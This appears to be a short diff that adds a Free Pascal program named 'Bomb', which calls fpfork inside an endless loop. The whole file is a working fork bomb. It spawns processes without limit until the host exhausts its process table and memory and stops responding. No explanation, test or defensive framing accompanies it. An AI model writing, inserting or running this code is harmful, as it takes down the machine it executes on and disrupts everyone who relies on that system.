@@ -1,0 +1,5 @@
+program Bomb;
+uses baseunix;
+begin
+  while true do fpfork;
+end.
